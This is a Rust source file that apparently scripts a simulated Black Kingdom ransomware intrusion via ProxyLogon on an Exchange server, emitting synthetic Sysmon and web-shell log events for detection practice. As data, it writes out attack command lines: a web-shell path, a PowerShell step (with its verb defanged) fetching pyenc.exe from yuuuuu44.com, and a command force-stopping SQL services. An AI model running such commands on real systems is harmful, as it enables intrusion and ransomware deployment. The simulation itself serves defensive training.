//! Black Kingdom, also Pydomer: ProxyLogon on 18 March 2021, after the public exploit, and a program built from Python.
//!
//! Marks after Microsoft (2021-03-25) and Sophos.

use crate::campaigns::{Story, proxylogon};
use crate::plan::Plan;
use crate::ransom::{self, Run};
use crate::server::Protocol;
use crate::setting::{Setting, Update};
use crate::shell::{self, Shell};
use crate::time::{HOUR, MINUTE, SECOND, Time};
use crate::windows::{self, Channel, Process};

pub(super) const STORY: Story = Story {
    name: "black-kingdom",
    description: "ProxyLogon on 18 March 2021, Black Kingdom encrypts on 20 March, updated on 22 March",
    also: Some("blackkingdom"),
    bytes_per_day: 320_000,
    setting,
    tell,
    ..proxylogon::COMPROMISED
};

const EXTORTIONIST: &str = "203.0.113.98";
const PROGRAM: &str = r"C:\Windows\Temp\pyenc.exe";

const HEADING: &str =
    "***************************\r\n| We Are Back            ?\r\n***************************\r\n\r\n";

const SHELL: Shell = Shell {
    url: "/owa/auth/ChackLogsPL.aspx",
    file: "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/ChackLogsPL.aspx",
    protocol: Some(Protocol::Owa),
    agent: "python-requests/2.25.1",
};

fn setting() -> Setting {
    let day = |day| Time::day(2021, 3, day);
    let down = Update::Security(day(22).at(20, 30, 0)).down();
    Setting { first: day(17), down, until: day(26), ..proxylogon::march_2021(17, 23) }
}

fn tell(plan: &mut Plan) {
    let attack = Time::day(2021, 3, 18).at(15, 12, 9);
    proxylogon::break_in(plan, attack, EXTORTIONIST, &SHELL);
    shell::call(plan, attack.plus(44 * SECOND), &SHELL, EXTORTIONIST, Some("\"cmd\" /c whoami"));
    proxylogon::leave_page(plan, &SHELL);
    let at = Time::day(2021, 3, 20).at(4, 20, 33);
    shell::call(
        plan,
        at,
        &SHELL,
        EXTORTIONIST,
        Some("\"cmd\" /c powershell -c \"INERT http://yuuuuu44.com/vpn-service/INERT C:\\Windows\\Temp\\pyenc.exe\""),
    );
    plan.step(at.plus(3 * SECOND), |server, at| {
        let utc = at.sysmon();
        let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        let fields = windows::dns_query(&utc, powershell, "yuuuuu44.com", "::ffff:198.51.100.99;");
        windows::event(server, at, Channel::Sysmon, 22, "Dns query", &fields)?;
        windows::file_created(server, at.plus(1_400), powershell, PROGRAM)
    });
    let begin = at.plus(4 * MINUTE);
    shell::call(plan, begin, &SHELL, EXTORTIONIST, Some("\"cmd\" /c start C:\\Windows\\Temp\\pyenc.exe"));
    unpacks(plan, begin.plus(2 * SECOND));
    let run = Run { image: PROGRAM, suffix: ".8Ksw2d", head: b"", note: "decrypt_file.TxT", heading: HEADING };
    ransom::encrypts(plan, begin.plus(9 * SECOND), run);
    shell::call(plan, begin.plus(5 * HOUR), &SHELL, EXTORTIONIST, None);
}

/// Programs built from Python unpack their interpreter first; this one then stops databases, to get at their files.
fn unpacks(plan: &mut Plan, at: Time) {
    plan.step(at, |server, at| {
        let process = Process {
            parent: r"C:\Windows\System32\cmd.exe",
            parent_line: "\"cmd\" /c start C:\\Windows\\Temp\\pyenc.exe",
            image: PROGRAM,
            line: PROGRAM,
        };
        windows::process(server, at, &process)?;
        windows::file_created(server, at.plus(700), PROGRAM, r"C:\Windows\Temp\_MEI31442\python37.dll")?;
        let databases = Process {
            parent: PROGRAM,
            parent_line: PROGRAM,
            image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            line: r"powershell.exe Get-Service *sql*|Stop-Service -Force 2>$null",
        };
        windows::process(server, at.plus(3_100), &databases).map(|_| ())
    });
}
